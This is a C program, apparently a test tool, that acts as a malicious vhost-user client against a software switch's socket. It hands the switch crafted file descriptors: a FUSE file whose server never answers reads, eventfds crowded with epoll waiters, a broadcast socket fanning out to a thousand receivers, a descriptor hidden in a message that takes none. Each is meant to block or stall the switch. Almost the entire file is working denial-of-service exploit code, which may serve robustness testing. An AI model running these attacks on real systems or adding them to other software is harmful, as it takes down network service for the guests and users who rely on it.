/*
 * A vhost-user front end that uses its descriptors against the switch. It shares no code with it.
 *
 * descriptors SOCKET ATTACK: connects, drops to an unprivileged user, makes its own user and mount namespaces with a FUSE
 * file system whose server never answers a READ, and attacks. A page of that file system never arrives, so a thread that
 * copies to it holds its locks: of a pipe, a socket, an epoll descriptor. Prints "ready" when the attack is on. Each line on
 * its input starts the next step: it hangs up, and then ends.
 */
#define _GNU_SOURCE
#include <err.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#define NOBODY 65534
#define FILE_NODE 2
#define FILE_LEN (1 << 20)
#define RING 64
#define RING_AREA 0x4000
#define BUFFERS 0x10000
#define BUFFER_LEN 2048
#define GUEST_LEN (1 << 20)

static int vhost;

/* ---- A file system that answers all requests but those for data. ---- */

static void answer(int fuse, uint64_t unique, const void *body, size_t len)
{
	char out[512];
	struct fuse_out_header head = { .len = sizeof head + len, .unique = unique };

	memcpy(out, &head, sizeof head);
	memcpy(out + sizeof head, body, len);
	if (write(fuse, out, head.len) < 0)
		warn("fuse");
}

static void serve(int fuse)
{
	static char in[1 << 21];
	struct fuse_attr file = { .ino = FILE_NODE, .size = FILE_LEN, .mode = S_IFREG | 0666, .nlink = 1, .blksize = 4096 };
	struct fuse_attr root = { .ino = 1, .mode = S_IFDIR | 0777, .nlink = 2 };

	for (;;) {
		struct fuse_in_header *head = (void *)in;

		if (read(fuse, in, sizeof in) < (ssize_t)sizeof *head)
			_exit(0);
		if (head->opcode == FUSE_INIT) {
			struct fuse_init_out init = { .major = 7, .minor = 31, .max_write = 4096 };
			answer(fuse, head->unique, &init, sizeof init);
		} else if (head->opcode == FUSE_LOOKUP) {
			/* The attributes are not valid for any time: each access asks for them again. */
			struct fuse_entry_out entry = { .nodeid = FILE_NODE, .entry_valid = 1000, .attr = file };
			answer(fuse, head->unique, &entry, sizeof entry);
		} else if (head->opcode == FUSE_OPEN || head->opcode == FUSE_OPENDIR) {
			struct fuse_open_out open = { .fh = 1 };
			answer(fuse, head->unique, &open, sizeof open);
		} else if (head->opcode == FUSE_GETATTR && head->nodeid == 1) {
			struct fuse_attr_out attr = { .attr_valid = 1000, .attr = root };
			answer(fuse, head->unique, &attr, sizeof attr);
		}
		/* READ, STATFS, FLUSH, RELEASE, GETATTR of the file: never. */
	}
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		err(1, "%s", path);
	close(fd);
}

/* Descriptor of a file whose server never answers. */
static int silent_file(void)
{
	char folder[] = "/tmp/silent-XXXXXX", options[128], path[64];
	int fuse, file;

	if (setresgid(NOBODY, NOBODY, NOBODY) || setresuid(NOBODY, NOBODY, NOBODY))
		err(1, "nobody");
	prctl(PR_SET_DUMPABLE, 1);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (!mkdtemp(folder))
		err(1, "mkdtemp");
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		err(1, "unshare");
	put("/proc/self/setgroups", "deny");
	put("/proc/self/uid_map", "0 65534 1");
	put("/proc/self/gid_map", "0 65534 1");
	fuse = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	if (fuse < 0)
		err(1, "/dev/fuse");
	snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", fuse);
	if (mount("silent", folder, "fuse.silent", MS_NOSUID | MS_NODEV, options))
		err(1, "mount");
	/* A separate process: when it is killed, its descriptor of the server's end is closed, and all requests fail. */
	switch (fork()) {
	case -1:
		err(1, "fork");
	case 0:
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		/* It keeps no descriptor of the attacker's, such as the last end of a pipe. */
		close_range(3, fuse - 1, 0);
		close_range(fuse + 1, ~0U, 0);
		serve(fuse);
	}
	close(fuse);
	snprintf(path, sizeof path, "%s/file", folder);
	file = open(path, O_RDWR);
	if (file < 0)
		err(1, "%s", path);
	umount2(folder, MNT_DETACH);
	rmdir(folder);
	return file;
}

/* ---- vhost-user ---- */

static void say_parts(struct iovec *parts, int count, int fd)
{
	union {
		char space[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} control = { 0 };
	struct msghdr message = { .msg_iov = parts, .msg_iovlen = count };

	if (fd >= 0) {
		message.msg_control = &control;
		message.msg_controllen = sizeof control.space;
		struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
		rights->cmsg_level = SOL_SOCKET;
		rights->cmsg_type = SCM_RIGHTS;
		rights->cmsg_len = CMSG_LEN(sizeof fd);
		memcpy(CMSG_DATA(rights), &fd, sizeof fd);
	}
	if (sendmsg(vhost, &message, MSG_NOSIGNAL) < 0)
		warn("sendmsg");
}

static void say(uint32_t request, const void *payload, uint32_t len, int fd)
{
	uint32_t head[3] = { request, 1, len };
	struct iovec parts[2] = { { head, sizeof head }, { (void *)payload, len } };

	say_parts(parts, 2, fd);
}

static void say_word(uint32_t request, uint64_t word, int fd)
{
	say(request, &word, sizeof word, fd);
}

enum { SET_FEATURES = 2, SET_OWNER = 3, SET_MEM_TABLE = 5, SET_LOG_BASE = 6, NUM = 8, ADDR = 9, BASE = 10, KICK = 12,
       CALL = 13, ERR = 14, SET_PROTOCOL_FEATURES = 16, ENABLE = 18, SET_INFLIGHT_FD = 32 };

static void say_memory(int file)
{
	uint64_t table[5] = { 1, 0, GUEST_LEN, 0x10000000, 0 };

	say(SET_MEM_TABLE, table, sizeof table, file);
}

static void introduce(void)
{
	say(SET_OWNER, NULL, 0, -1);
	/* VERSION_1, protocol features; LOG_SHMFD, INFLIGHT_SHMFD. */
	say_word(SET_FEATURES, 1ull << 32 | 1ull << 30, -1);
	say_word(SET_PROTOCOL_FEATURES, 1ull << 1 | 1ull << 12, -1);
}

/* A guest with a receive ring full of buffers and an empty transmit ring. Each burst for it causes a call. */
static void attach(int call, int kick)
{
	int memory = memfd_create("guest", 0), plain = eventfd(0, EFD_NONBLOCK);
	char *base;

	if (ftruncate(memory, GUEST_LEN))
		err(1, "ftruncate");
	base = mmap(NULL, GUEST_LEN, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
	for (int i = 0; i < RING; i++) {
		struct { uint64_t address; uint32_t len; uint16_t flags, next; } entry = {
			BUFFERS + (uint64_t)i * BUFFER_LEN, BUFFER_LEN, 2, 0 };
		memcpy(base + 16 * i, &entry, sizeof entry);
		((uint16_t *)(base + 0x1000))[2 + i] = i;
	}
	((uint16_t *)(base + 0x1000))[1] = RING;
	introduce();
	say_memory(memory);
	for (uint32_t ring = 0; ring < 2; ring++) {
		uint64_t at = 0x10000000 + ring * RING_AREA;
		struct { uint32_t index, flags; uint64_t descriptors, used, available, log; } address = {
			ring, 0, at, at + 0x2000, at + 0x1000, 0 };
		uint32_t num[2] = { ring, RING }, start[2] = { ring, 0 }, enable[2] = { ring, 1 };

		say(NUM, num, sizeof num, -1);
		say(ADDR, &address, sizeof address, -1);
		say(BASE, start, sizeof start, -1);
		say_word(CALL, ring, ring == 0 ? call : plain);
		say_word(KICK, ring, ring == 1 && kick >= 0 ? kick : plain);
		say(ENABLE, enable, sizeof enable, -1);
	}
}

/* ---- The attacks ---- */

static void *page;

static void *read_to_page(void *fd)
{
	if (read((int)(intptr_t)fd, page, 4096) < 0)
		warn("read");
	return NULL;
}

static void *wait_to_page(void *fd)
{
	if (epoll_wait((int)(intptr_t)fd, page, 16, -1) < 0)
		warn("epoll_wait");
	return NULL;
}

static void hold(void *(*how)(void *), int fd)
{
	pthread_t thread;

	page = mmap(NULL, FILE_LEN, PROT_READ | PROT_WRITE, MAP_SHARED, silent_file(), 0);
	if (page == MAP_FAILED || pthread_create(&thread, NULL, how, (void *)(intptr_t)fd))
		err(1, "hold");
	usleep(100000);
}

static void held_pipe(int ends[2])
{
	if (pipe(ends) || write(ends[1], "full", 4) != 4)
		err(1, "pipe");
	hold(read_to_page, ends[0]);
}

static int held_tcp(void)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t len = sizeof at;
	int listener = socket(AF_INET, SOCK_STREAM, 0), ours = socket(AF_INET, SOCK_STREAM, 0), peer;

	if (bind(listener, (void *)&at, len) || listen(listener, 1) || getsockname(listener, (void *)&at, &len) ||
	    connect(ours, (void *)&at, len) || (peer = accept(listener, NULL, NULL)) < 0 || write(peer, "full", 4) != 4)
		err(1, "tcp");
	hold(read_to_page, ours);
	return ours;
}

static int held_epoll(void)
{
	int poll = epoll_create1(0), ready = eventfd(1, 0);
	struct epoll_event event = { .events = EPOLLIN };

	if (epoll_ctl(poll, EPOLL_CTL_ADD, ready, &event))
		err(1, "epoll_ctl");
	hold(wait_to_page, poll);
	return poll;
}

/* An eventfd with hundreds of thousands of waiting entries: each write walks all of them. */
static int crowded(void)
{
	enum { COPIES = 900, POLLS = 500 };
	static int copies[COPIES];
	struct rlimit limit = { 4096, 4096 };
	struct epoll_event event = { .events = EPOLLIN | EPOLLET };
	int call = eventfd(0, EFD_NONBLOCK);

	setrlimit(RLIMIT_NOFILE, &limit);
	for (int i = 0; i < COPIES; i++)
		copies[i] = dup(call);
	for (int p = 0; p < POLLS; p++) {
		int poll = epoll_create1(0);
		for (int i = 0; i < COPIES; i++)
			if (poll < 0 || epoll_ctl(poll, EPOLL_CTL_ADD, copies[i], &event))
				err(1, "entry %d of %d", i, p);
	}
	return call;
}

/* A UDP socket; each write to it goes to a thousand other sockets. */
static int broadcast(void)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(40404) };
	struct rlimit limit = { 4096, 4096 };
	int sender = socket(AF_INET, SOCK_DGRAM, 0), on = 1;

	setrlimit(RLIMIT_NOFILE, &limit);
	for (int i = 0; i < 1000; i++) {
		int receiver = socket(AF_INET, SOCK_DGRAM, 0);
		setsockopt(receiver, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
		if (bind(receiver, (void *)&at, sizeof at))
			err(1, "bind");
	}
	at.sin_addr.s_addr = htonl(0x7fffffff);
	setsockopt(sender, SOL_SOCKET, SO_BROADCAST, &on, sizeof on);
	if (connect(sender, (void *)&at, sizeof at))
		err(1, "connect");
	return sender;
}

/* Keeps an eventfd full, and in blocking mode. */
static void *fill(void *fd)
{
	for (;;) {
		int call = (int)(intptr_t)fd;
		uint64_t most = UINT64_MAX - 1, before;
		struct pollfd room = { .fd = call, .events = POLLOUT };

		fcntl(call, F_SETFL, O_NONBLOCK);
		/* A write beyond the maximum adds nothing: an earlier call must be taken out first. */
		if (poll(&room, 1, 0) == 1 && room.revents & POLLOUT) {
			if (read(call, &before, sizeof before) < 0)
				before = 0;
			if (write(call, &most, sizeof most) < 0)
				usleep(1);
		}
		fcntl(call, F_SETFL, 0);
		usleep(1000);
	}
	return fd;
}

static void attack(const char *what)
{
	int ends[2];

	if (!strcmp(what, "pipe_call")) {
		held_pipe(ends);
		attach(ends[1], -1);
	} else if (!strcmp(what, "tcp_call")) {
		attach(held_tcp(), -1);
	} else if (!strcmp(what, "epoll_kick")) {
		attach(eventfd(0, EFD_NONBLOCK), held_epoll());
	} else if (!strcmp(what, "crowded_call")) {
		attach(crowded(), -1);
	} else if (!strcmp(what, "broadcast_call")) {
		attach(broadcast(), -1);
	} else if (!strcmp(what, "full_call")) {
		pthread_t thread;
		int call = eventfd(0, EFD_NONBLOCK);
		attach(call, -1);
		usleep(200000);
		pthread_create(&thread, NULL, fill, (void *)(intptr_t)call);
	} else if (!strcmp(what, "silent_memory")) {
		int file = silent_file();
		introduce();
		say_memory(file);
	} else if (!strcmp(what, "silent_log")) {
		uint64_t log[2] = { 4096, 0 };
		int file = silent_file();
		introduce();
		say(SET_LOG_BASE, log, sizeof log, file);
	} else if (!strcmp(what, "silent_inflight")) {
		struct { uint64_t size, offset; uint16_t queues, entries; } inflight = { 4096, 0, 2, 64 };
		int file = silent_file();
		introduce();
		say(SET_INFLIGHT_FD, &inflight, 20, file);
	} else if (!strcmp(what, "silent_everything")) {
		int file = silent_file();
		attach(file, file);
		say_word(ERR, 0, file);
		for (int i = 0; i < 8; i++)
			say_word(CALL, 1, file);
	} else if (!strcmp(what, "last_pipe")) {
		/* The switch gets the last copies of a pipe's end: closing them takes the mutex. The last message's payload is
		 * sent after our own copy is closed. Else the switch may close its copies first, and we wait for the mutex. */
		uint32_t head[3] = { KICK, 1, 8 };
		uint64_t ring = 0;
		held_pipe(ends);
		introduce();
		say_word(ERR, 0, ends[1]);
		say_parts(&(struct iovec){ head, sizeof head }, 1, ends[1]);
		close(ends[1]);
		say_parts(&(struct iovec){ &ring, sizeof ring }, 1, -1);
	} else if (!strcmp(what, "hidden_file")) {
		/* One write with two messages that take no descriptor: the descriptor comes with the first, but seems to belong to
		 * the second. */
		uint32_t twice[6] = { SET_OWNER, 1, 0, SET_OWNER, 1, 0 };
		int file = silent_file();
		say_parts(&(struct iovec){ twice, sizeof twice }, 1, file);
		usleep(200000);
	} else {
		errx(1, "no attack is called %s", what);
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	char line[64];

	if (argc != 3)
		errx(1, "descriptors SOCKET ATTACK");
	strncpy(at.sun_path, argv[1], sizeof at.sun_path - 1);
	vhost = socket(AF_UNIX, SOCK_STREAM, 0);
	if (connect(vhost, (void *)&at, sizeof at))
		err(1, "%s", argv[1]);
	attack(argv[2]);
	puts("ready");
	fflush(stdout);
	if (fgets(line, sizeof line, stdin)) {
		close(vhost);
		puts("gone");
		fflush(stdout);
	}
	if (fgets(line, sizeof line, stdin))
		return 0;
	return 0;
}
